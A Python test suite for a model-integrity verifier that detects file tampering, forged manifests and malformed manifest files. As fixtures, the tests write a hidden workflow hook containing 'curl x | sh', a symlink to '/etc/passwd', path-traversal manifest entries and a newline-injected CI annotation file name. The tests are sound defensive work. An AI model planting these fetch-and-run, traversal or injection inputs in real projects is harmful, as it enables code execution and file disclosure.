"""integrity/verify: every way a model can differ from its manifest is found and reported."""

from __future__ import annotations

import dataclasses
import hashlib
import os
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from mlsecops.errors import UsageError
from mlsecops.integrity.create import hash_model
from mlsecops.integrity.manifest import (
    FileEntry,
    Manifest,
    normalize_digest,
    parse_manifest,
    read_manifest,
)
from mlsecops.integrity.signing import sign
from mlsecops.integrity.verify import Difference, Verdict, verify_model
from tests.integrity.integrity_models import make_hf_model, write
from tests.support.audit import recording

SHARD1 = "model-00001-of-00002.safetensors"
SHARD2 = "model-00002-of-00002.safetensors"


@pytest.fixture
def model(tmp_path: Path) -> Path:
    return make_hf_model(tmp_path / "model")


@pytest.fixture
def manifest(model: Path) -> Manifest:
    return hash_model(model, None, jobs=2)


def _groups(verdict: Verdict) -> dict[str, list[tuple[str, str]]]:
    return {title: [(d.path, d.detail) for d in items] for title, items in verdict.groups()}


def test_an_untouched_model_verifies(model: Path, manifest: Manifest) -> None:
    verdict = verify_model(model, manifest, jobs=2)
    assert verdict.passed and verdict.groups() == []
    assert (verdict.files, verdict.bytes) == (len(manifest.files), manifest.total_bytes)
    assert verdict.digest == manifest.digest()


def _flip_byte(model: Path) -> None:
    data = bytearray((model / SHARD1).read_bytes())
    data[150_000] ^= 0x01
    (model / SHARD1).write_bytes(bytes(data))


def _swap(model: Path) -> None:
    one, two = (model / SHARD1).read_bytes(), (model / SHARD2).read_bytes()
    (model / SHARD1).write_bytes(two)
    (model / SHARD2).write_bytes(one)


def _replace_with_symlink(model: Path) -> None:
    (model / "tokenizer.json").unlink()
    (model / "tokenizer.json").symlink_to("/etc/passwd")


def _replace_with_directory(model: Path) -> None:
    (model / "config.json").unlink()
    write(model / "config.json" / "inner.json", b"{}")


TAMPERS: dict[str, tuple[Callable[[Path], object], dict[str, list[tuple[str, str]]]]] = {
    "changed, same size": (_flip_byte, {"changed": [(SHARD1, "content differs (same size)")]}),
    "truncated": (
        lambda m: (m / SHARD1).write_bytes((m / SHARD1).read_bytes()[:1000]),
        {"changed": [(SHARD1, "truncated: 300000 -> 1000 bytes")]},
    ),
    "extended": (
        lambda m: (m / "config.json").open("ab").write(b" "),
        {"changed": [("config.json", "extended: 42 -> 43 bytes")]},
    ),
    "empty file given content": (
        lambda m: (m / "empty.bin").write_bytes(b"\0"),
        {"changed": [("empty.bin", "extended: 0 -> 1 bytes")]},
    ),
    "missing": (
        lambda m: (m / "tokenizer.json").unlink(),
        {"missing": [("tokenizer.json", "")]},
    ),
    "missing empty file": (
        lambda m: (m / "empty.bin").unlink(),
        {"missing": [("empty.bin", "")]},
    ),
    "added": (
        lambda m: write(m / "pytorch_model.bin", b"pickle"),
        {"added": [("pytorch_model.bin", "6 bytes")]},
    ),
    "added empty": (lambda m: write(m / "x.py", b""), {"added": [("x.py", "0 bytes")]}),
    "added in a new folder": (
        lambda m: write(m / "new" / "dir" / "evil.py", b"import os"),
        {"added": [("new/dir/evil.py", "9 bytes")]},
    ),
    "added hidden": (
        lambda m: write(m / ".github" / "workflows" / ".hook.sh", b"curl x | sh"),
        {"added": [(".github/workflows/.hook.sh", "11 bytes")]},
    ),
    "renamed": (
        lambda m: (m / "tokenizer.json").rename(m / "tokenizer2.json"),
        {"missing": [("tokenizer.json", "")], "added": [("tokenizer2.json", "38 bytes")]},
    ),
    "renamed into another folder": (
        lambda m: (m / "nested/a/b/c/deep.txt").rename(m / "nested/a/deep.txt"),
        {"missing": [("nested/a/b/c/deep.txt", "")], "added": [("nested/a/deep.txt", "5 bytes")]},
    ),
    "swapped": (
        _swap,
        {
            "changed": [
                (SHARD1, "content differs (same size)"),
                (SHARD2, "content differs (same size)"),
            ]
        },
    ),
    "file replaced by a symlink": (
        _replace_with_symlink,
        {"symlinks": [("tokenizer.json", "symlink to '/etc/passwd' (never followed)")]},
    ),
    "symlink added": (
        lambda m: (m / "nested" / "alias.json").symlink_to("config.json"),
        {"symlinks": [("nested/alias.json", "symlink to 'config.json' (never followed)")]},
    ),
    "file replaced by a directory": (
        _replace_with_directory,
        {
            "added": [("config.json/inner.json", "2 bytes")],
            "not regular files": [("config.json", "is now a directory")],
        },
    ),
    "FIFO added": (
        lambda m: os.mkfifo(m / "pipe"),
        {"not regular files": [("pipe", "a FIFO, not in the manifest")]},
    ),
}


@pytest.mark.parametrize("case", list(TAMPERS))
def test_every_tamper_case_fails_with_its_difference(
    model: Path, manifest: Manifest, case: str
) -> None:
    tamper, expected = TAMPERS[case]
    tamper(model)
    verdict = verify_model(model, manifest, jobs=2)
    assert not verdict.passed
    assert _groups(verdict) == expected


def test_every_difference_is_reported_not_just_the_first(model: Path, manifest: Manifest) -> None:
    cases = ["changed, same size", "extended", "missing", "added", "added in a new folder"]
    cases += ["renamed into another folder", "symlink added", "FIFO added"]
    expected: dict[str, list[tuple[str, str]]] = {}
    for case in cases:
        tamper, differences = TAMPERS[case]
        tamper(model)
        for group, items in differences.items():
            expected[group] = sorted(expected.get(group, []) + items)
    verdict = verify_model(model, manifest, jobs=2)
    assert _groups(verdict) == expected
    assert verdict.count() == 9


def test_a_symlinked_directory_leading_outside_is_never_entered(
    tmp_path: Path, model: Path, manifest: Manifest
) -> None:
    outside = write(tmp_path / "outside" / "outside-secret.bin", b"secret")
    (model / "nested" / "more").symlink_to(outside.parent)
    with recording("open", "os.scandir", "os.listdir", "os.readlink") as touched:
        verdict = verify_model(model, manifest, jobs=2)
    assert _groups(verdict) == {
        "symlinks": [("nested/more", f"symlink to {str(outside.parent)!r} (never followed)")]
    }
    # Paths are recorded as passed: one segment at a time, relative to a directory fd.
    assert "nested" in touched  # the hook saw the link's directory being opened...
    assert "more" not in touched  # ...but the link itself was never opened or listed
    assert not any("outside" in path for path in touched)  # ...nor anything behind it


def test_a_copy_at_another_path_verifies_from_any_directory(
    tmp_path: Path, model: Path, manifest: Manifest, monkeypatch: pytest.MonkeyPatch
) -> None:
    copy = tmp_path / "elsewhere" / "downloaded-artifact" / "renamed-model"
    shutil.copytree(model, copy)
    shutil.rmtree(model)
    monkeypatch.chdir(tmp_path / "elsewhere")
    assert verify_model(Path("downloaded-artifact/renamed-model"), manifest, jobs=2).passed
    monkeypatch.chdir(copy / "nested")
    assert verify_model(Path("../../renamed-model"), manifest, jobs=2).passed


def test_a_single_file_model(tmp_path: Path) -> None:
    model = write(tmp_path / "train" / "final_model.onnx", os.urandom(70_000))
    write(tmp_path / "train" / "unrelated.log", b"siblings are not the model")
    manifest = hash_model(model, None, jobs=2)
    assert verify_model(model, manifest, jobs=2).passed
    copy = tmp_path / "deploy" / "final_model.onnx"
    copy.parent.mkdir()
    shutil.copy(model, copy)
    write(tmp_path / "deploy" / "other.txt", b"siblings still do not count")
    assert verify_model(copy, manifest, jobs=2).passed

    renamed = tmp_path / "deploy" / "model.onnx"
    shutil.copy(model, renamed)
    assert _groups(verify_model(renamed, manifest, jobs=2)) == {
        "missing": [("final_model.onnx", "")],
        "added": [("model.onnx", "70000 bytes")],
    }
    with copy.open("r+b") as handle:
        handle.seek(12345)
        handle.write(b"\xff")
    assert _groups(verify_model(copy, manifest, jobs=2)) == {
        "changed": [("final_model.onnx", "content differs (same size)")]
    }


def test_the_model_kind_must_match(tmp_path: Path, model: Path, manifest: Manifest) -> None:
    single = write(tmp_path / "final_model.onnx", b"onnx")
    single_manifest = hash_model(single, None, jobs=1)
    assert _groups(verify_model(model, single_manifest, jobs=2)) == {
        "not regular files": [
            ("(model)", "the model is a directory, but the manifest describes a single file")
        ]
    }
    assert _groups(verify_model(single, manifest, jobs=2)) == {
        "not regular files": [
            ("(model)", "the model is not a directory, but the manifest describes a directory")
        ]
    }
    (tmp_path / "link").symlink_to(model)
    assert list(_groups(verify_model(tmp_path / "link", manifest, jobs=2))) == ["symlinks"]


def test_expected_digest_catches_a_manifest_edited_to_match(
    model: Path, manifest: Manifest
) -> None:
    trusted_digest = manifest.digest()
    assert verify_model(model, manifest, 2, expected_digest=trusted_digest).checks == (
        ("expected digest", "matches"),
    )
    # The attacker replaces a shard and rewrites its entry in the manifest beside it.
    evil = os.urandom(300_000)
    (model / SHARD1).write_bytes(evil)
    forged = dataclasses.replace(
        manifest,
        files=tuple(
            FileEntry(e.path, e.size, hashlib.sha256(evil).hexdigest()) if e.path == SHARD1 else e
            for e in manifest.files
        ),
    )
    assert verify_model(model, forged, jobs=2).passed  # without the digest, nothing notices
    verdict = verify_model(model, forged, 2, expected_digest=trusted_digest)
    assert not verdict.passed
    [(path, detail)] = _groups(verdict)["manifest"]
    assert path == "digest" and detail.startswith(f"{forged.digest()} is not the expected")


UNSAFE_ENTRIES = {
    "../outside-secret.bin": "contains a '..' segment",
    "/etc/passwd": "absolute path",
    "nested/../../outside-secret.bin": "contains a '..' segment",
    "a//b": "contains an empty segment ('//' or a trailing '/')",
    "a\\..\\b": "contains a backslash",
}


@pytest.mark.parametrize("entry", list(UNSAFE_ENTRIES))
def test_traversal_entries_are_refused_before_anything_is_read(
    tmp_path: Path, model: Path, manifest: Manifest, entry: str
) -> None:
    write(tmp_path / "outside-secret.bin", b"secret")
    hostile = dataclasses.replace(
        manifest,
        files=(*manifest.files, FileEntry(entry, 6, hashlib.sha256(b"secret").hexdigest())),
    )
    with recording("open", "os.scandir", "os.listdir", "os.readlink") as touched:
        verdict = verify_model(model, hostile, jobs=2)
    assert not verdict.passed
    assert (entry, UNSAFE_ENTRIES[entry]) in _groups(verdict)["manifest"]
    assert touched == []  # neither the model nor anything outside it was opened or listed


def test_repeated_and_unordered_entries_are_refused(model: Path, manifest: Manifest) -> None:
    repeated = dataclasses.replace(manifest, files=(*manifest.files, manifest.files[-1]))
    unordered = dataclasses.replace(manifest, files=tuple(reversed(manifest.files)))
    with recording("open", "os.scandir", "os.listdir", "os.readlink") as touched:
        assert _groups(verify_model(model, repeated, jobs=2))["manifest"] == [
            (manifest.files[-1].path, "listed 2 times")
        ]
        assert _groups(verify_model(model, unordered, jobs=2))["manifest"] == [
            ("(manifest)", "entries are not in canonical (sorted) order")
        ]
    assert touched == []


def test_a_bad_manifest_file_is_a_usage_error(tmp_path: Path, manifest: Manifest) -> None:
    good, sha = manifest.to_json(), manifest.files[0].sha256
    signed_manifest = sign(manifest, b"k" * 32)
    assert signed_manifest.signature is not None
    signed, mac = signed_manifest.to_json(), signed_manifest.signature.value
    cases = {
        "not json": ("{", "is not valid JSON"),
        "not utf-8": (None, "is not UTF-8"),
        "wrong shape": ('{"files": []}', "is not a valid manifest: (top level): 'schema_version'"),
        "bad hash": (good.replace(sha, "xyz"), "files[0].sha256"),
        "float size": (good.replace('"size": 0', '"size": 0.0'), "is not an integer"),
        "duplicate key": (good.replace('"kind"', '"kind": "file", "kind"'), "duplicate key 'kind'"),
        "unknown field": (good.replace('"kind"', '"extra": 1, "kind"'), "Additional properties"),
        # The schema's pattern (re.search, `$`) lets a trailing newline through; parsing not.
        "hash with a newline": (
            good.replace(sha, sha + "\\n"),
            f"files[0].sha256: '{sha}\\n' is not 64 lowercase hex digits",
        ),
        "signature with a newline": (
            signed.replace(mac, mac + "\\n"),
            f"signature.value: '{mac}\\n' is not 64 lowercase hex digits",
        ),
    }
    for name, (text, message) in cases.items():
        path = tmp_path / f"{name}.json"
        path.write_bytes(b"\xff\xfe" if text is None else text.encode())
        with pytest.raises(UsageError, match=re.escape(message)):
            read_manifest(path)
    with pytest.raises(UsageError, match=r"manifest .*absent\.json not found"):
        read_manifest(tmp_path / "absent.json")


def test_digests_are_normalized_and_matched_whole() -> None:
    digest = "sha256:" + "ab" * 32
    assert normalize_digest(digest) == digest
    assert normalize_digest(f"  SHA256:{'AB' * 32}\n") == digest  # blanks and case: ignored
    for bad in [digest + "\nx", digest + "0", digest[:-1], "md5:" + "ab" * 32, "", "sha256:"]:
        assert normalize_digest(bad) is None, bad


def test_a_missing_model_is_a_usage_error(tmp_path: Path, manifest: Manifest) -> None:
    with pytest.raises(UsageError, match="no such file"):
        verify_model(tmp_path / "absent", manifest, jobs=2)


def test_differences_name_odd_files_on_one_line(model: Path, manifest: Manifest) -> None:
    write(model / "x\n::error::forged", b"")
    verdict = verify_model(model, manifest, jobs=2)
    assert verdict.added == (Difference("x\n::error::forged", "0 bytes"),)
    assert parse_manifest(manifest.to_json()) == manifest
